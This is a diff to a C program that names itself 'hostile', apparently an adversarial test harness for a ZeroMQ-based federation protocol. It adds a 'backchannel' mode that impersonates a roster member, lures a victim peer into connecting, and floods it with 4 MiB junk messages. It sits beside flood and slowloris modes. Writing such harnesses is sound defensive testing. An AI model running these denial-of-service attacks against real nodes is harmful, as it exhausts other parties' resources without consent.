@@ -46,6 +46,9 @@
  *                      the same --seq and different --variant
  *   flood              duplicates of one valid object, full speed, --seconds
  *   flood-ihave        IHAVE frames of 4096 random ids, full speed, --seconds
+ *   backchannel        listen at M's own endpoint, greet the victim, and
+ *                      send --conns messages of 4 MiB down the connection
+ *                      the victim opens to M to answer
  *   slowloris          --conns raw TCP connections that send a partial
  *                      ZMTP greeting and never read, held --seconds
  *
@@ -690,6 +693,83 @@ static void mode_flood(bool ihave)
 	free(ids);
 }
 
+/*
+ * Answer back on the victim's own connection: listen at M's roster
+ * endpoint as M (a CurveZMQ server with M's key), greet the victim so it
+ * connects to M to answer, then send --conns messages of 4 MiB down the
+ * connection the victim opened. The victim never reads from its outbound
+ * connections; without a bound it would hold them all.
+ */
+static void mode_backchannel(void)
+{
+	const roster_member *mm = member_named(identity_public(me)->name);
+	const id_public *pub = identity_public(me);
+	void *srv = zmq_socket(zctx, ZMQ_ROUTER);
+	int one = 1, zero = 0, hwm = 100000;
+	size_t big = 4u << 20, flen = 0, rlen;
+	uint8_t rid[256], *junk = calloc(1, big);
+	sm_roster_ref heads[WIRE_MAX_HEADS];
+	uint32_t k = 0;
+	double end;
+	unsigned long sent = 0;
+
+	if (!mm || !srv || !junk || !mm->endpoint[0])
+		die("backchannel: no endpoint for M in the rosters", NULL);
+	if (zmq_setsockopt(srv, ZMQ_CURVE_SERVER, &one, sizeof(one)) < 0 ||
+	    zmq_setsockopt(srv, ZMQ_CURVE_SECRETKEY, identity_curve_sk(me), 32) < 0 ||
+	    zmq_setsockopt(srv, ZMQ_CURVE_PUBLICKEY, pub->curve_pk, 32) < 0 ||
+	    zmq_setsockopt(srv, ZMQ_ROUTER_MANDATORY, &one, sizeof(one)) < 0 ||
+	    zmq_setsockopt(srv, ZMQ_SNDHWM, &hwm, sizeof(hwm)) < 0 ||
+	    zmq_setsockopt(srv, ZMQ_LINGER, &zero, sizeof(zero)) < 0 ||
+	    zmq_bind(srv, mm->endpoint) < 0)
+		die("backchannel: cannot listen at M's endpoint", NULL);
+	for (size_t i = 0; i < federation_count(fed) && k < WIRE_MAX_HEADS; i++, k++) {
+		memcpy(heads[k].sig, roster_sig_id(federation_at(fed, i)), SM_ID_LEN);
+		heads[k].version = roster_version(federation_at(fed, i));
+	}
+	uint8_t *f = wire_hello(heads, k, 0, &flen);
+	send_frame(f, flen, 0);
+	free(f);
+	/* the victim's answer arrives on our listener: its routing id */
+	zmq_pollitem_t it = { srv, 0, ZMQ_POLLIN, 0 };
+	end = mono() + opt_seconds;
+	rlen = 0;
+	while (!rlen && mono() < end) {
+		if (zmq_poll(&it, 1, 100) <= 0)
+			continue;
+		int r = zmq_recv(srv, rid, sizeof(rid), ZMQ_DONTWAIT);
+		int more = 0;
+		size_t ms = sizeof(more);
+		zmq_getsockopt(srv, ZMQ_RCVMORE, &more, &ms);
+		while (more) {	/* the body */
+			uint8_t b[64];
+			zmq_recv(srv, b, sizeof(b), 0);
+			zmq_getsockopt(srv, ZMQ_RCVMORE, &more, &ms);
+		}
+		if (r > 0)
+			rlen = (size_t)r > sizeof(rid) ? sizeof(rid) : (size_t)r;
+	}
+	if (!rlen) {
+		printf("no connection from the victim\n");
+		goto out;
+	}
+	printf("victim connected\n");
+	for (int i = 0; i < opt_conns && mono() < end + opt_seconds; i++) {
+		if (zmq_send(srv, rid, rlen, ZMQ_SNDMORE) < 0 || zmq_send(srv, junk, big, 0) < 0)
+			break;
+		sent++;
+	}
+	printf("backchannel sent %lu messages of %zu bytes\n", sent, big);
+	fflush(stdout);
+	/* hold the connection while the victim is watched: the I/O thread
+	 * is still pushing it all out */
+	usleep((useconds_t)(opt_seconds * 1e6));
+out:
+	fflush(stdout);
+	zmq_close(srv);
+	free(junk);
+}
+
 /* Raw TCP: a partial ZMTP greeting (10 of 64 bytes), then silence. */
 static void mode_slowloris(void)
 {
@@ -818,6 +898,7 @@ int main(int argc, char **argv)
 	else if (!strcmp(mode, "equivocate")) mode_equivocate();
 	else if (!strcmp(mode, "flood")) mode_flood(false);
 	else if (!strcmp(mode, "flood-ihave")) mode_flood(true);
+	else if (!strcmp(mode, "backchannel")) mode_backchannel();
 	else {
 		fprintf(stderr, "hostile: unknown mode %s\n", mode);
 		exit(2);
